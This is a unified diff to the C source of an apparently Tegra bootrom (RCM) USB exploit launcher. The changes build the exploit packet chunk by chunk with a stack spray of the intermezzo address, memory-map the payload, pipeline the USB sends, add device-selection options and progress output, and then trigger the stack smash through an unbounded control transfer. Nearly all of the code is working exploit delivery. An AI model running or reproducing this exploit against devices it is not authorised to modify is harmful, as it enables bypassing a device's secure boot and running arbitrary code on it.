@@ -4,7 +4,12 @@
 #include <stdint.h>
 #include <unistd.h>
 #include <string.h>
+#include <errno.h>
+#include <time.h>
 #include <endian.h>
+#include <fcntl.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
 
 #include "usb.h"
 #include "intermezzo.h"
@@ -14,6 +19,7 @@
 #define APX_PID 0x7321
 
 #define TIMEOUT 1000 // milliseconds
+#define WRITE_RETRIES 3 // on ETIMEDOUT, the first writes to a fresh console can time out
 
 #define MAX_LENGTH 0x30298 // length of the exploit packet
 #define RCM_PAYLOAD_ADDR 0x40010000
@@ -21,28 +27,238 @@
 #define PAYLOAD_LOAD_BLOCK 0x40020000
 #define SEND_CHUNK_SIZE 0x1000
 
+/* Packet layout: header, stack spray, intermezzo, padding, payload */
+#define HEADER_SIZE 680
+#define SPRAY_START HEADER_SIZE
+#define SPRAY_END (SPRAY_START + INTERMEZZO_LOCATION - RCM_PAYLOAD_ADDR)
+#define PAYLOAD_START (SPRAY_END + PAYLOAD_LOAD_BLOCK - INTERMEZZO_LOCATION)
+#define MAX_PAYLOAD_LENGTH (MAX_LENGTH - PAYLOAD_START)
+#define PIPE_DEPTH 4 // bulk URBs kept in flight by the pipelined send
+
 static void print_hex(unsigned char *buf, int len)
 {
 	for (int i=0; i<len; i++)
 		printf("%02x", buf[i]);
 }
 
+static int parse_hex(const char *hex, unsigned char *buf, int len)
+{
+	unsigned int byte;
+	
+	if (strlen(hex) != (size_t)len * 2)
+		return -1;
+	for (int i=0; i<len; i++) {
+		if (sscanf(&hex[i * 2], "%2x", &byte) != 1)
+			return -1;
+		buf[i] = byte;
+	}
+	return 0;
+}
+
+static int write_chunk(int fd, void *buf)
+{
+	int result;
+	
+	for (int attempt = 0; ; attempt++) {
+		result = ep_write(fd, 1, buf, SEND_CHUNK_SIZE, TIMEOUT);
+		if (result >= 0 || errno != ETIMEDOUT || attempt == WRITE_RETRIES)
+			return result;
+		usleep(20000 << attempt);
+	}
+}
+
+/* The loop must stop on an odd chunk count, i.e. with the last chunk in the
+ * high DMA buffer, so the stack smash copies over the right one */
+static int chunk_count(int len)
+{
+	int chunks = (len + SEND_CHUNK_SIZE - 1) / SEND_CHUNK_SIZE;
+	
+	return chunks % 2 ? chunks : chunks + 1;
+}
+
+/* The exploit packet is never built in full: each chunk is generated as it
+ * is sent, with the payload read straight from its mapping */
+struct packet {
+	const unsigned char *payload;
+	int payload_len;
+	int len;
+};
+
+/* Copies the part of src (which sits at src_start in the packet) that falls
+ * into the chunk starting at chunk_start */
+static void copy_overlap(unsigned char *out, int chunk_start, const unsigned char *src, int src_start, int src_len)
+{
+	int from = chunk_start > src_start ? chunk_start : src_start;
+	int to = src_start + src_len;
+	
+	if (to > chunk_start + SEND_CHUNK_SIZE)
+		to = chunk_start + SEND_CHUNK_SIZE;
+	if (from < to)
+		memcpy(out + (from - chunk_start), src + (from - src_start), to - from);
+}
+
+static void build_chunk(const struct packet *packet, int index, void *buf)
+{
+	unsigned char *out = buf;
+	int start = index * SEND_CHUNK_SIZE;
+	uint32_t word;
+	
+	memset(out, 0, SEND_CHUNK_SIZE);
+	
+	word = htole32(MAX_LENGTH);
+	copy_overlap(out, start, (unsigned char *)&word, 0, sizeof(word));
+	
+	/* fill the stack with the intermezzo address */
+	word = htole32(INTERMEZZO_LOCATION);
+	for (int pos = start > SPRAY_START ? start : SPRAY_START; pos < SPRAY_END && pos < start + SEND_CHUNK_SIZE; pos++)
+		out[pos - start] = ((unsigned char *)&word)[(pos - SPRAY_START) % 4];
+	
+	copy_overlap(out, start, intermezzo, SPRAY_END, intermezzo_len);
+	copy_overlap(out, start, packet->payload, PAYLOAD_START, packet->payload_len);
+}
+
+/* One line per newly completed chunk, for a frontend's progress bar */
+static void report_sent(int *reported, int done, int chunks)
+{
+	if (done <= *reported)
+		return;
+	*reported = done;
+	printf("[*] Progress: 0x%x/0x%x bytes\n", done * SEND_CHUNK_SIZE, chunks * SEND_CHUNK_SIZE);
+}
+
+/* Sends the packet; returns the number of bytes sent, or -1. Pipelined mode
+ * keeps PIPE_DEPTH URBs in flight instead of one blocking ioctl per chunk,
+ * and falls back to the synchronous loop if usbfs will not take URBs. */
+static int send_packet(int fd, const struct packet *packet, int *pipelined)
+{
+	char chunk[SEND_CHUNK_SIZE];
+	struct usb_pipe pipe;
+	int chunks = chunk_count(packet->len);
+	int reported = 0;
+	void *buf;
+	
+	if (*pipelined && usb_pipe_init(&pipe, fd, 1, PIPE_DEPTH, SEND_CHUNK_SIZE, TIMEOUT) < 0)
+		*pipelined = 0;
+	
+	for (int i = 0; i < chunks; i++) {
+		/* the first chunk always goes out on its own, with the timeout retries */
+		if (i == 0 || !*pipelined) {
+			build_chunk(packet, i, chunk);
+			if (write_chunk(fd, chunk) != SEND_CHUNK_SIZE)
+				goto fail;
+			report_sent(&reported, i + 1, chunks);
+			continue;
+		}
+		if ((buf = usb_pipe_buffer(&pipe)) == NULL)
+			goto fail;
+		build_chunk(packet, i, buf);
+		if (usb_pipe_submit(&pipe, SEND_CHUNK_SIZE) < 0) {
+			if (pipe.inflight == 0 && (errno == ENOTTY || errno == EINVAL)) {
+				usb_pipe_free(&pipe);
+				*pipelined = 0;
+				i--;
+				continue;
+			}
+			goto fail;
+		}
+		/* URBs complete in order: all but those still in flight are done */
+		report_sent(&reported, i + 1 - pipe.inflight, chunks);
+	}
+	
+	if (*pipelined) {
+		if (usb_pipe_drain(&pipe) < 0)
+			goto fail;
+		usb_pipe_free(&pipe);
+		report_sent(&reported, chunks, chunks);
+	}
+	return chunks * SEND_CHUNK_SIZE;
+	
+fail:
+	if (*pipelined)
+		usb_pipe_free(&pipe);
+	return -1;
+}
+
 int main(int argc, char *argv[])
 {
 	int usb_fd;
-	FILE *payload_file;
+	int payload_fd;
+	struct stat payload_stat;
+	struct packet packet = { .payload = NULL };
 	unsigned char devid[16];
-	char payload_buf[MAX_LENGTH]; // XXX: don't use more memory than we need, ~200k is a lot
-	int payload_idx = 0;
-	int payload_len;
+	int sent;
+	const char *port = NULL;
+	int busnum = 0, devnum = 0;
+	const char *known_devid = NULL;
+	int pipelined = 1;
+	struct timespec send_start, send_end;
+	const char *payload_path;
+	int opt;
+	
+	/* Line-buffer stdout so a frontend reading the pipe sees each phase as it happens */
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	
+	while ((opt = getopt(argc, argv, "p:d:i:S")) != -1) {
+		switch (opt) {
+		case 'p':
+			port = optarg;
+			break;
+		case 'd':
+			/* bus:dev as found by the caller's own detection */
+			if (sscanf(optarg, "%d:%d", &busnum, &devnum) != 2) {
+				printf("[-] Invalid device address: %s\n", optarg);
+				return -1;
+			}
+			break;
+		case 'i':
+			/* the caller already read the device ID; RCM only sends it once */
+			known_devid = optarg;
+			break;
+		case 'S':
+			/* one blocking write per chunk, as before the pipelined send */
+			pipelined = 0;
+			break;
+		default:
+			printf("USAGE: %s [-p port | -d bus:dev] [-i device_id] [-S] payload.bin\n", argv[0]);
+			return -1;
+		}
+	}
+	
+	if (optind != argc - 1) {
+		printf("USAGE: %s [-p port | -d bus:dev] [-i device_id] [-S] payload.bin\n", argv[0]);
+		return -1;
+	}
+	if (known_devid != NULL && parse_hex(known_devid, devid, sizeof(devid)) < 0) {
+		printf("[-] Invalid device ID: %s\n", known_devid);
+		return -1;
+	}
+	payload_path = argv[optind];
 	
-	if (argc != 2) {
-		printf("USAGE: %s payload.bin\n", argv[0]);
+	/* Map the payload; pages are read in as the send loop gets to them */
+	if ((payload_fd = open(payload_path, O_RDONLY)) < 0 || fstat(payload_fd, &payload_stat) < 0) {
+		perror("[-] Failed to open payload file");
 		return -1;
 	}
+	packet.payload_len = payload_stat.st_size < MAX_PAYLOAD_LENGTH ? payload_stat.st_size : MAX_PAYLOAD_LENGTH;
+	if (packet.payload_len > 0) {
+		packet.payload = mmap(NULL, packet.payload_len, PROT_READ, MAP_PRIVATE, payload_fd, 0);
+		if (packet.payload == MAP_FAILED) {
+			perror("[-] Failed to map payload file");
+			close(payload_fd);
+			return -1;
+		}
+		madvise((void *)packet.payload, packet.payload_len, MADV_SEQUENTIAL);
+	}
+	close(payload_fd);
+	packet.len = PAYLOAD_START + packet.payload_len;
 	
 	/* Get the device fd (device must be present) */
-	usb_fd = get_device(APX_VID, APX_PID);
+	if (busnum > 0)
+		usb_fd = get_device_at_address(busnum, devnum, APX_VID, APX_PID);
+	else if (port != NULL)
+		usb_fd = get_device_at_port(port, APX_VID, APX_PID);
+	else
+		usb_fd = get_device(APX_VID, APX_PID);
 	if (usb_fd < 0) {
 		perror("[-] Failed to open usb device");
 		return -1;
@@ -56,7 +272,7 @@ int main(int argc, char *argv[])
 	}
 	
 	/* Read the device ID */
-	if (ep_read(usb_fd, 1, devid, sizeof(devid), TIMEOUT) != sizeof(devid)) {
+	if (known_devid == NULL && ep_read(usb_fd, 1, devid, sizeof(devid), TIMEOUT) != sizeof(devid)) {
 		perror("[-] Failed to read device ID");
 		close(usb_fd);
 		return -1;
@@ -66,48 +282,22 @@ int main(int argc, char *argv[])
 	print_hex(devid, sizeof(devid));
 	printf("\n");
 	
-	/* Begin payload construction */
-	// TODO: construct the payload on-the-fly as it is sent, saving memory
-	memset(payload_buf, 0, sizeof(payload_buf));
-	
-	*(uint32_t *)payload_buf = htole32(MAX_LENGTH);
-	payload_idx	= 680; // skip over the header
-	
-	/* fill the stack with the intermezzo address */
-	for (int i=RCM_PAYLOAD_ADDR; i<INTERMEZZO_LOCATION; i += 4, payload_idx += 4)
-		*(uint32_t *)&payload_buf[payload_idx] = htole32(INTERMEZZO_LOCATION);
-	
-	/* Add intermezzo code */
-	memcpy(&payload_buf[payload_idx], intermezzo, intermezzo_len);
-	
-	/* pad until payload */
-	payload_idx += PAYLOAD_LOAD_BLOCK - INTERMEZZO_LOCATION;
+	printf("[*] Read %d bytes from %s\n", packet.payload_len, payload_path);
+	if (packet.len == MAX_LENGTH)
+		printf("[*] Warning: payload may have been truncated. Continuing.\n");
 	
-	/* load the actual payload */
-	if ((payload_file = fopen(argv[1], "r")) == NULL) {
-		perror("[-] Failed to open payload file");
+	/* Send the payload */
+	clock_gettime(CLOCK_MONOTONIC, &send_start);
+	if ((sent = send_packet(usb_fd, &packet, &pipelined)) < 0) {
+		perror("[-] Sending payload failed");
 		close(usb_fd);
 		return -1;
 	}
-	
-	int file_len = fread(&payload_buf[payload_idx], 1, MAX_LENGTH-payload_idx, payload_file);
-	payload_idx += file_len;
-	fclose(payload_file);
-	printf("[*] Read %d bytes from %s\n", file_len, argv[1]);
-	if (payload_idx == MAX_LENGTH)
-		printf("[*] Warning: payload may have been truncated. Continuing.");
-	
-	/* Send the payload */
-	payload_len = payload_idx;
-	int low_buffer = 1;
-	for (payload_idx = 0; payload_idx < payload_len || low_buffer; payload_idx += SEND_CHUNK_SIZE, low_buffer ^= 1) {
-		if (ep_write(usb_fd, 1, &payload_buf[payload_idx], SEND_CHUNK_SIZE, TIMEOUT) != SEND_CHUNK_SIZE) {
-			perror("[-] Sending payload failed");
-			close(usb_fd);
-			return -1;
-		}
-	}	
-	printf("[+] Sent 0x%x bytes\n", payload_idx);
+	clock_gettime(CLOCK_MONOTONIC, &send_end);
+	printf("[+] Sent 0x%x bytes\n", sent);
+	printf("[*] Transfer took %.1f ms (%s)\n",
+		(send_end.tv_sec - send_start.tv_sec) * 1e3 + (send_end.tv_nsec - send_start.tv_nsec) / 1e6,
+		pipelined ? "pipelined" : "synchronous");
 	
 	/* Smash the stack! */
 	printf("[+] Smashed the stack: %d\n", ctrl_transfer_unbounded(usb_fd, 0x7000));